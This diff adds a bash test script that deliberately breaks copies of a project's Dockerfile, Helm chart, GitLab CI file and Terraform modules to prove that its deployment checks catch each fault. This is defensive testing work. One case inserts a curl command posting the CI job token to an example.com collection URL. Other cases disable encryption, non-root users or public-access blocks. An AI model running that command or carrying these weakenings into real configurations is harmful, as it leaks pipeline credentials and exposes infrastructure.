@@ -1,0 +1,179 @@
+#!/usr/bin/env bash
+# Proves that every check of scripts/check-deploy.sh can fail: for each case, copy the
+# deployment artifacts to a temporary directory, break one thing on purpose, run the
+# check script there (only the checks concerned, via PGE_CHECK_ONLY, to stay fast) and
+# assert that it exits non-zero with the expected check reported as FAIL. A first run on
+# the unmodified copy must pass, so a failure below is caused by the breakage alone.
+#
+#   scripts/test-check-deploy.sh           all cases
+#   scripts/test-check-deploy.sh dockerfile   only the cases whose name matches
+set -uo pipefail
+
+SRC="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
+ONLY="${1:-}"
+TMP=$(mktemp -d "${TMPDIR:-/tmp}/pge-test-check-deploy.XXXXXX")
+trap 'rm -rf "$TMP"' EXIT
+# Cargo.toml and api/ too: the Dockerfile and chart checks read the workspace members
+# and the binary's PGE_* variables from them.
+ARTIFACTS=(Dockerfile .dockerignore .gitlab-ci.yml helm terraform docs scripts Cargo.toml api)
+
+OK=0
+KO=0
+KO_NAMES=()
+
+fresh_copy() {
+  rm -rf "$TMP/repo"
+  mkdir -p "$TMP/repo"
+  local a
+  for a in "${ARTIFACTS[@]}"; do cp -R "$SRC/$a" "$TMP/repo/"; done
+  rm -rf "$TMP/repo/api/target"
+  find "$TMP/repo" -name '.terraform' -prune -exec rm -rf {} +
+}
+
+# sub FILE OLD NEW: replace the first occurrence, failing loudly when OLD is absent (the
+# artifact changed and the case must be updated, rather than silently testing nothing).
+sub() {
+  python3 - "$TMP/repo/$1" "$2" "$3" <<'PY'
+import sys
+path, old, new = (a.replace("\\n", "\n") for a in sys.argv[1:4])  # "\n" in a case = newline
+text = open(path).read()
+if old not in text:
+    sys.exit(f"test-check-deploy: {old!r} not found in {path}")
+open(path, "w").write(text.replace(old, new, 1))
+PY
+}
+# del_line FILE REGEX: delete the lines matching REGEX (at least one must match).
+del_line() {
+  grep -Eq -- "$2" "$TMP/repo/$1" || { echo "test-check-deploy: /$2/ not found in $1" >&2; return 1; }
+  sed -i -E "/$2/d" "$TMP/repo/$1"
+}
+append() { printf '%s\n' "$2" >>"$TMP/repo/$1"; }
+
+# breaks NAME CHECK_REGEX MUTATION...: MUTATION (a shell snippet) breaks the copy; the
+# checks matching CHECK_REGEX are run and one of them must FAIL, with a non-zero exit.
+breaks() {
+  local name=$1 checks=$2 mutation=$3
+  if [ -n "$ONLY" ] && ! printf '%s' "$name" | grep -Eq -- "$ONLY"; then return 0; fi
+  fresh_copy
+  if ! eval "$mutation"; then
+    echo "KO    $name: the mutation could not be applied"
+    KO=$((KO + 1)); KO_NAMES+=("$name"); return
+  fi
+  local out="$TMP/out.txt" rc=0
+  PGE_CHECK_ONLY="$checks" bash "$TMP/repo/scripts/check-deploy.sh" >"$out" 2>&1 || rc=$?
+  if [ "$rc" -ne 0 ] && grep -Eq "^FAIL +.*($checks)" "$out"; then
+    echo "ok    $name  ($(grep -E '^FAIL' "$out" | head -1 | sed -E 's/^FAIL +//'))"
+    OK=$((OK + 1))
+  else
+    echo "KO    $name: expected a FAIL of /$checks/ and a non-zero exit (exit $rc)"
+    sed -e 's/^/      | /' "$out" | tail -n 30
+    KO=$((KO + 1)); KO_NAMES+=("$name")
+  fi
+}
+
+echo "== baseline: the unmodified copy passes"
+fresh_copy
+if bash "$TMP/repo/scripts/check-deploy.sh" >"$TMP/baseline.txt" 2>&1; then
+  echo "ok    baseline ($(grep 'check-deploy summary' "$TMP/baseline.txt"))"
+else
+  echo "KO    baseline: the unmodified artifacts do not pass; fix them first"
+  grep -E '^FAIL|summary' "$TMP/baseline.txt"
+  exit 1
+fi
+
+echo "== each breakage is caught"
+# Files
+breaks "artifacts: docs/DEPLOYMENT.md missing" 'artifacts present' \
+  'rm "$TMP/repo/docs/DEPLOYMENT.md"'
+
+# Dockerfile
+breaks "dockerfile: unpinned base image (hadolint DL3007)" 'hadolint' \
+  'sub Dockerfile "FROM rust:1.95-alpine AS builder" "FROM rust:latest AS builder"'
+breaks "dockerfile: no USER (checkov CKV_DOCKER_3)" 'checkov dockerfile' \
+  'del_line Dockerfile "^USER "'
+breaks "dockerfile: final stage with a shell distro" 'Dockerfile contract' \
+  'sub Dockerfile "FROM gcr.io/distroless/static-debian12:nonroot" "FROM alpine:3.20"'
+breaks "dockerfile: a workspace member left out of the build context" 'Dockerfile contract' \
+  'del_line .dockerignore "^!loadtest"'
+
+# Helm chart
+breaks "chart: YAML syntax error in a template (helm lint)" 'helm lint' \
+  'sub helm/pge/templates/service.yaml "  type: ClusterIP" "  type: ClusterIP\n   bad: [indent"'
+breaks "chart: values.schema.json is not a valid schema" 'schema of values.schema.json' \
+  'sub helm/pge/values.schema.json "\"type\": \"object\",\n  \"additionalProperties\": false," "\"type\": \"objekt\",\n  \"additionalProperties\": false,"'
+breaks "chart: image tag no longer required" 'missing image tag' \
+  'sub helm/pge/values.schema.json "\"minLength\": 1,\n          \"description\": \"Image tag" "\"description\": \"Image tag" &&
+   sub helm/pge/values.schema.json "\"pattern\": \"^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}\$\"," "" &&
+   sub helm/pge/values.yaml "  tag: \"\"" "  tag: dev" &&
+   sub helm/pge/templates/_helpers.tpl "required \"image.tag is required: the commit SHA built by CI (helm ... --set image.tag=\$CI_COMMIT_SHA)\" .Values.image.tag" "default \"dev\" .Values.image.tag"'
+breaks "chart: database secret no longer required" 'missing database secret' \
+  'sub helm/pge/values.schema.json "\"minLength\": 1,\n          \"description\": \"Name of an existing Secret" "\"description\": \"Name of an existing Secret" &&
+   sub helm/pge/values.schema.json "\"pattern\": \"^[a-z0-9]([-a-z0-9.]*[a-z0-9])?\$\"\n        },\n        \"urlKey\"" "\"type\": \"string\"\n        },\n        \"urlKey\"" &&
+   sub helm/pge/templates/_helpers.tpl "required \"database.existingSecret is required: the name of the Secret holding PGE_DATABASE_URL\" .Values.database.existingSecret" "default \"pge-database\" .Values.database.existingSecret"'
+breaks "chart: replica floor lowered to 1" 'minReplicas below 3' \
+  'sub helm/pge/values.schema.json "\"minReplicas\": {\"type\": \"integer\", \"minimum\": 3" "\"minReplicas\": {\"type\": \"integer\", \"minimum\": 1"'
+breaks "chart: unknown field in a Deployment (kubernetes-validate --strict)" 'helm template|kubernetes-validate' \
+  'sub helm/pge/templates/deployment-api.yaml "          imagePullPolicy:" "          imagePullPolicyy:"'
+breaks "chart: unknown kind (kubernetes-validate fatal)" 'helm template|kubernetes-validate' \
+  'printf "%s\n" "apiVersion: external-secrets.io/v1beta1" "kind: ExternalSecret" "metadata:" "  name: pge-database" "spec:" "  refreshInterval: 1h" >"$TMP/repo/helm/pge/templates/externalsecret.yaml"'
+breaks "chart: removed API version (kubernetes-validate fatal)" 'helm template|kubernetes-validate' \
+  'sub helm/pge/templates/pdb.yaml "apiVersion: policy/v1" "apiVersion: policy/v1beta1"'
+breaks "chart: duplicate key in a rendered manifest (yamllint)" 'helm template|yamllint rendered' \
+  'sub helm/pge/templates/configmap.yaml "data:" "  labels:\n    app: pge\ndata:"'
+breaks "chart: writable root filesystem (checkov CKV_K8S_22)" 'helm template|checkov kubernetes' \
+  'sub helm/pge/templates/_helpers.tpl "readOnlyRootFilesystem: true" "readOnlyRootFilesystem: false"'
+breaks "chart: misspelt variable that pge would ignore (variables check)" 'helm template|chart variables' \
+  'sub helm/pge/templates/_helpers.tpl "PGE_SES_FROM: {{" "PGE_SES_FROM_ADDRESS: {{"'
+breaks "chart: cursor key no longer shared by the replicas (variables check)" 'helm template|chart contract|chart variables' \
+  'del_line helm/pge/templates/deployment-api.yaml "pge.cursorSecretEnv"'
+breaks "chart: cursor secret no longer required" 'missing cursor secret' \
+  'sub helm/pge/templates/_helpers.tpl "required \"cursorSecret.existingSecret is required: the name of the Secret holding PGE_CURSOR_SECRET\" .Values.cursorSecret.existingSecret" "default \"pge-cursor\" .Values.cursorSecret.existingSecret" &&
+   sub helm/pge/values.schema.json "\"minLength\": 1,\n          \"description\": \"Name of an existing Secret holding PGE_CURSOR_SECRET" "\"description\": \"Name of an existing Secret holding PGE_CURSOR_SECRET" &&
+   sub helm/pge/values.schema.json "\"pattern\": \"^[a-z0-9]([-a-z0-9.]*[a-z0-9])?\$\"\n        },\n        \"key\"" "\"type\": \"string\"\n        },\n        \"key\""'
+breaks "chart: rollout may drop capacity (contract)" 'helm template|chart contract' \
+  'sub helm/pge/templates/deployment-api.yaml "maxUnavailable: 0" "maxUnavailable: 1"'
+breaks "chart: checkov skip without a reason" 'inline checkov skip' \
+  'sub helm/pge/templates/deployment-worker.yaml "CKV_K8S_9=The outbox worker receives no traffic, so there is nothing to gate with a readiness probe" "CKV_K8S_9="'
+breaks "chart: duplicate key in values.yaml (yamllint)" 'yamllint \(' \
+  'append helm/pge/values.yaml "nodeSelector: {}"'
+
+# GitLab CI
+breaks "gitlab-ci: invalid when (check-jsonschema)" 'check-jsonschema' \
+  'sub .gitlab-ci.yml "      when: manual\n      allow_failure: true\n  resource_group: production" "      when: sometimes\n      allow_failure: true\n  resource_group: production"'
+breaks "gitlab-ci: unsafe shell (gitlab-ci-verify/shellcheck)" 'gitlab-ci-verify' \
+  'sub .gitlab-ci.yml "    - scripts/test.sh" "    - cd \$PGE_UNDEFINED_DIR\n    - scripts/test.sh"'
+breaks "gitlab-ci: token sent with curl (checkov CKV_GITLABCI_1)" 'checkov gitlab_ci' \
+  'sub .gitlab-ci.yml "    - scripts/test.sh" "    - curl -d \"\$CI_JOB_TOKEN\" https://example.com/collect\n    - scripts/test.sh"'
+breaks "gitlab-ci: needs an unknown job (contract)" 'GitLab CI contract' \
+  'sub .gitlab-ci.yml "needs: [\"fmt-clippy\", \"deploy-checks\", \"test\"]" "needs: [\"fmt-clippy\", \"deploy-check\", \"test\"]"'
+breaks "gitlab-ci: production deploys without a click (contract)" 'GitLab CI contract' \
+  'sub .gitlab-ci.yml "      when: manual\n      allow_failure: true\n  resource_group: production\n  environment:\n    name: production\n    url:" "      when: on_success\n  resource_group: production\n  environment:\n    name: production\n    url:"'
+
+# Terraform
+breaks "terraform: HCL syntax error (python-hcl2)" 'python-hcl2' \
+  'sub terraform/modules/rds/main.tf "  multi_az               = true" "  multi_az               = true {"'
+breaks "terraform: HCL syntax error (checkov with CKV_PARSE_ERROR_FAIL)" 'checkov terraform' \
+  'sub terraform/modules/rds/main.tf "  multi_az               = true" "  multi_az               = true {"'
+breaks "terraform: unencrypted database (checkov CKV_AWS_16)" 'checkov terraform' \
+  'sub terraform/modules/rds/main.tf "storage_encrypted     = true" "storage_encrypted     = false"'
+breaks "terraform: public bucket access (checkov)" 'checkov terraform' \
+  'sub terraform/modules/s3/main.tf "  restrict_public_buckets = true\n}\n\nresource \"aws_s3_bucket_versioning\" \"documents\"" "  restrict_public_buckets = false\n}\n\nresource \"aws_s3_bucket_versioning\" \"documents\""'
+breaks "terraform: provider not pinned (contract)" 'Terraform contract' \
+  'sub terraform/environments/production/versions.tf "version = \"5.100.0\"" "version = \"~> 5.0\""'
+breaks "terraform: CIDR without validation (contract)" 'Terraform contract' \
+  'sub terraform/modules/eks/variables.tf "  validation {\n    condition     = can(cidrhost(var.vpc_cidr, 0))\n    error_message = \"vpc_cidr must be a valid IPv4 CIDR.\"\n  }\n" ""'
+breaks "terraform: helm_values output the chart refuses (helm template)" 'helm_values output' \
+  'sub terraform/environments/staging/outputs.tf "cursorSecret   = {" "cursorSecrets  = {"'
+breaks "terraform: state without locking (contract)" 'Terraform contract' \
+  'sub terraform/environments/staging/backend.tf "use_lockfile = true" "use_lockfile = false"'
+if command -v terraform >/dev/null 2>&1; then
+  breaks "terraform: unformatted file (terraform fmt)" 'terraform fmt' \
+    'sub terraform/modules/ecr/main.tf "  image_tag_mutability = \"IMMUTABLE\"" "  image_tag_mutability    =    \"IMMUTABLE\""'
+fi
+
+echo
+echo "test-check-deploy: $OK breakages caught, $KO not caught"
+if [ "$KO" -gt 0 ]; then
+  printf 'not caught: %s\n' "${KO_NAMES[@]}"
+  exit 1
+fi
